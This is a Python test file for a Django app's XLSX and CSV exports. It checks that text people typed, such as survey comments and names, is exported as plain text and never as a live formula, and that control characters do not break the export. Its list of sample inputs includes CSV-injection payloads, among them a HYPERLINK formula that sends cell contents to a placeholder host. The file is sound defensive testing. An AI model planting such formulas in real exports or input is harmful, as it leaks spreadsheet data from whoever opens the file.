"""Exports never hand a spreadsheet a formula (issue #9: CSV injection neutralised on export).

Property tests for the shared cell helpers, and the exports that carry text people typed: the
IKM workbook (public survey comments, service names) and the insight tables (names of
employees and units). The org export has its own in tests/org/test_import_properties.py, the
TPP export in tests/followup/test_rewards_and_export.py.
"""

import csv
import io

from django.urls import reverse
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from kinerja.core.spreadsheet import FORMULA_START, csv_cell, csv_cell_read, read_table, xlsx_row
from kinerja.insight import reports
from tests.citizen.conftest import add_answers, layanan  # noqa: F401 - the fixture
from tests.jobs import job_file
from tests.properties import bounded

DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+62 812", "-1+1", "@SUM(A1)",
             "\t=1+1", "\r=1+1", "=1+1\x01"]  # fmt: skip


def as_stored(text: str) -> str:
    """What an XLSX cell gives back: no control characters, XML's line ends."""
    return ILLEGAL_CHARACTERS_RE.sub("", text).replace("\r\n", "\n").replace("\r", "\n")


@bounded(100)
@given(values=st.lists(st.one_of(st.text(max_size=60), st.integers(), st.none()), max_size=6))
@example(values=DANGEROUS)
def test_a_written_row_reads_back_as_the_same_text_never_a_formula(values):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("uji")
    sheet.append(xlsx_row(sheet, values))
    out = io.BytesIO()
    book.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())
    read = cells[0] if cells else []
    texts = [v for v in values if isinstance(v, str) and as_stored(v)]
    assert not texts or read, "a row with text must read back as a row"
    for cell in read:
        assert cell.data_type != "f", cell.value
    for value, cell in zip(values, read, strict=False):
        if isinstance(value, str) and as_stored(value):
            assert cell.value == as_stored(value)


@bounded(100)
@given(value=st.one_of(st.text(max_size=40), st.integers(), st.none()))
def test_a_csv_cell_never_starts_a_formula(value):
    written = csv_cell(value)
    if isinstance(value, str):
        assert not written.startswith(FORMULA_START)
        assert written in (value, "'" + value)
        assert csv_cell_read(written) == value  # what an import of the export reads back
    else:
        assert written == value


def test_the_ikm_workbook_keeps_public_comments_and_names_as_text(personas, login, layanan):  # noqa: F811
    # A survey comment "=HYPERLINK(...)" became a live formula in HR's workbook, and a control
    # character in one failed the whole export (IllegalCharacterError, a 500).
    layanan.nama = "=Loket KTP"
    layanan.save(update_fields=["nama"])
    for saran in DANGEROUS:
        add_answers(layanan, [[3] * 9], saran=saran)
    content = job_file(login(personas.admin), reverse("citizen_export"))
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    raw = read_table(content, "Data mentah")
    column = raw[0].index("Saran")
    assert {r[column] for r in raw[1:]} == {as_stored(s) for s in DANGEROUS}


def test_insight_tables_export_names_as_text_in_xlsx_and_csv():
    rows = [[name, 1] for name in DANGEROUS]
    book = load_workbook(io.BytesIO(reports.xlsx([("Rekap", ["Nama", "Jumlah"], rows)])))
    cells = [c for row in book.worksheets[0].iter_rows() for c in row]
    assert {as_stored(name) for name in DANGEROUS} <= {c.value for c in cells}  # every name
    assert all(c.data_type != "f" for c in cells)
    response = reports.csv_response("rekap", ["Nama", "Jumlah"], rows)
    lines = list(csv.reader(io.StringIO(response.content.decode())))
    assert len(lines) == len(DANGEROUS) + 1
    for line in lines:
        assert not line[0].startswith(FORMULA_START), line


def test_the_tpp_workbook_exports_a_name_with_a_control_character(personas, login):
    # A name holding a control character (the import takes it) failed the TPP workbook
    # with IllegalCharacterError: a 500.
    from tests.followup.conftest import TOP, closed_with

    unit = personas.pegawai_pegawai.unit
    periode, _ = closed_with(personas, [(unit, "Ani\x01 Wijaya", 12, TOP)])
    client = login(personas.admin)
    response = client.get(f"/tindak-lanjut/penghargaan/tpp.xlsx?periode={periode.tahun}")
    assert response.status_code == 200
    names = [row[1] for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(
        values_only=True)]  # fmt: skip
    assert "Ani Wijaya" in names
